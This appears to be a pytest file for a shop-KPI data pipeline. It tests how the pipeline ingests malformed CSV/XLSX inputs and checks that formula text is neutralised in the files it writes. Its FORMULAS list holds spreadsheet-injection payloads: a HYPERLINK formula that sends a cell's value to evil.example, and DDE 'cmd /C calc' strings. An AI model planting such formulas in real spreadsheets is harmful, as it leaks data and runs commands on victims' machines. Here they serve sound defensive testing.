"""The bad-input corpus (tests/bad_inputs/corpus.py): every case has its documented outcome,
and every row written is either loaded or quarantined, counted independently of the loader."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from shopkpi.ingest.load import IngestError, load_month
from shopkpi.spreadsheets import neutralise_formula
from tests.bad_inputs.corpus import BASE_ROWS, CASES, MONTH, ORDERS_FILE, Case

README = Path(__file__).parent / "bad_inputs" / "README.md"
csv.field_size_limit(16 * 1024 * 1024)  # the 1 MB cell
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击领券")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2", "-A1*3"]


def records_written(folder: Path) -> int:
    """Data records of the order report, counted with Python's csv module / openpyxl, not DuckDB."""
    xlsx = list(folder.glob("订单报表.xlsx"))  # (the xlsx_bomb case has another workbook beside the report)
    if xlsx:
        rows = list(load_workbook(xlsx[0], read_only=True).active.iter_rows(values_only=True))
        return len(rows) - 2  # title row + header
    raw = (folder / ORDERS_FILE).read_bytes()
    text = raw.decode("utf-16" if raw.startswith(b"\xff\xfe") else "utf-8").lstrip("\ufeff")
    return sum(1 for _ in csv.reader(io.StringIO(text))) - 1


def run(case: Case, tmp_path: Path):
    folder = tmp_path / case.id
    case.build(folder)
    con = duckdb.connect()
    return folder, con, load_month(con, MONTH, folder)


def test_the_corpus_has_at_least_20_kinds_each_documented():
    assert len(CASES) >= 20 and len({c.id for c in CASES}) == len(CASES)
    documented = README.read_text(encoding="utf-8")
    for case in CASES:
        assert f"`{case.id}`" in documented, f"{case.id} is not documented in {README}"


@pytest.mark.parametrize("case", [c for c in CASES if c.outcome.result == "error"], ids=lambda c: c.id)
def test_bad_files_stop_the_month_naming_file_and_column(case, tmp_path):
    folder = tmp_path / case.id
    case.build(folder)
    con = duckdb.connect()
    with pytest.raises(IngestError) as raised:
        load_month(con, MONTH, folder)
    message = str(raised.value)
    assert case.outcome.reason in message and ORDERS_FILE in message and case.outcome.column in message
    # nothing of the month was written (the raw tables may exist, empty: refused inside the load's transaction)
    tables = [t for (t,) in con.execute("select table_name from information_schema.tables where table_schema = 'raw'").fetchall()]
    assert all(con.execute(f'select count(*) from raw."{t}"').fetchone()[0] == 0 for t in tables)


@pytest.mark.parametrize("case", [c for c in CASES if c.outcome.result != "error"], ids=lambda c: c.id)
def test_every_row_is_loaded_or_quarantined(case, tmp_path):
    folder, con, result = run(case, tmp_path)
    expected = case.outcome
    (stats,) = [f for f in result.files if f.report_type == "orders"]
    assert (stats.rows_loaded, stats.rows_quarantined) == (expected.loaded, expected.quarantined)
    assert stats.rows_read == stats.rows_loaded + stats.rows_quarantined == records_written(folder)
    assert con.execute("select count(*) from raw.orders").fetchone()[0] == expected.loaded
    quarantined = con.execute("select source_row, column_name, reason from raw.quarantine "
                              "where report_type = 'orders' order by source_row").fetchall()
    assert [r[0] for r in quarantined] == list(expected.rows)
    for _, column, reason in quarantined:
        assert expected.reason in reason
        if expected.column:
            assert column == expected.column
    if expected.result == "skipped":
        assert any(expected.reason in why for why in result.skipped.values())


def _orders(con) -> pd.DataFrame:
    return con.execute("select * from raw.orders order by source_row").df()


@pytest.mark.slow
def test_normalised_values_are_the_intended_ones(tmp_path):
    by_id = {c.id: c for c in CASES}
    amount = lambda con, column: con.execute(f"select {column} from raw.orders where source_row = 3").fetchone()[0]  # noqa: E731
    _, con, _ = run(by_id["yuan_sign"], tmp_path)
    assert amount(con, "total_amount") == Decimal("58.51")  # '¥58.51'
    _, con, _ = run(by_id["thousands_separator"], tmp_path)
    assert amount(con, "total_amount") == Decimal("1258.51")  # '1,258.51'
    _, con, _ = run(by_id["negative_amount"], tmp_path)
    assert amount(con, "refund_amount") == Decimal("-5.00")
    _, con, _ = run(by_id["three_date_formats"], tmp_path)
    created = _orders(con)["created_at"].astype(str).tolist()
    assert created[:2] == ["2017-05-30 23:18:00", "2017-05-30 23:08:00"]  # ISO and 2017年5月30日 23:08
    assert len(created) == BASE_ROWS and "NaT" not in created
    _, con, _ = run(by_id["huge_cell"], tmp_path)
    assert len(_orders(con).loc[6, "close_reason"]) == 1024 * 1024 // 3 + 1
    _, con, _ = run(by_id["formula_text"], tmp_path)
    assert _orders(con).loc[2, "close_reason"] == "=cmd|' /C calc'!A0"  # data is kept verbatim in the warehouse
    _, con, _ = run(by_id["conflicting_duplicate_ids"], tmp_path)
    kept = _orders(con)
    assert len(kept) == BASE_ROWS and 999.99 not in set(kept["total_amount"])  # the first row won


def test_shuffled_and_extra_columns_load_the_same_values(tmp_path):
    by_id = {c.id: c for c in CASES}
    frames = []
    for case_id in ("crlf", "shuffled_columns", "extra_columns", "double_bom", "xlsx_title_row"):
        _, con, _ = run(by_id[case_id], tmp_path)
        frames.append(_orders(con).drop(columns=["source_file"]))
    for frame in frames[1:]:
        pd.testing.assert_frame_equal(frame, frames[0])


def test_mixed_encodings_load_every_file(tmp_path):
    folder, con, result = run({c.id: c for c in CASES}["mixed_encodings"], tmp_path)
    encodings = {f.file: f.encoding for f in result.files}
    assert encodings["ExportOrderList.csv"] == "utf-8-sig" and encodings["items_attribute_gbk.csv"] == "gb18030"
    assert encodings["ExportOrderDetailList.csv"] == "gb18030"
    lines = (folder / "ExportOrderDetailList.csv").read_bytes().decode("gb18030").splitlines()
    assert con.execute("select count(*) from raw.order_lines").fetchone()[0] == len(lines) - 1
    assert con.execute("select count(*) from raw.items").fetchone()[0] == 288


# -- formula text is neutralised in every CSV/XLSX the project writes ----------------------------
def test_formula_text_is_neutralised_in_published_csv_and_xlsx():
    from shopkpi.publish.publisher import _csv_bytes
    from shopkpi.publish.workbook import _cell

    frame = pd.DataFrame({"employee_id": FORMULAS, "value": [-5.0, 1.0, 2.0, 3.0, 4.0]})
    text = _csv_bytes(frame).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert cells == ["'" + f for f in FORMULAS]
    assert "-5.0" in text  # numbers are not touched
    book = Workbook()
    for f in FORMULAS:
        book.active.append([_cell(f)])
    buffer = io.BytesIO()
    book.save(buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [c.value for (c,) in sheet.iter_rows()] == ["'" + f for f in FORMULAS]
    assert {c.data_type for (c,) in sheet.iter_rows()} == {"s"}  # strings, never formulas


def test_formula_text_is_neutralised_in_audit_and_simulator_files(tmp_path):
    from shopkpi.quality.audit import _write_csv
    from shopkpi_simulator.writers import write_rows, write_xlsx

    _write_csv(tmp_path / "audit.csv", [{"source_file": f, "rows": 1} for f in FORMULAS])
    write_rows(tmp_path / "sim.csv", ["name"], [[f] for f in FORMULAS], "utf-8-sig")
    write_xlsx(tmp_path / "sim.xlsx", ["name"], [[f] for f in FORMULAS])
    for name in ("audit.csv", "sim.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig") as fh:
            assert [r[0] for r in csv.reader(fh)][1:] == ["'" + f for f in FORMULAS]
    sheet = load_workbook(tmp_path / "sim.xlsx").active
    assert [c.value for (c,) in sheet.iter_rows(min_row=2)] == ["'" + f for f in FORMULAS]
    assert neutralise_formula("-5.00") == "-5.00" and neutralise_formula(-5) == -5
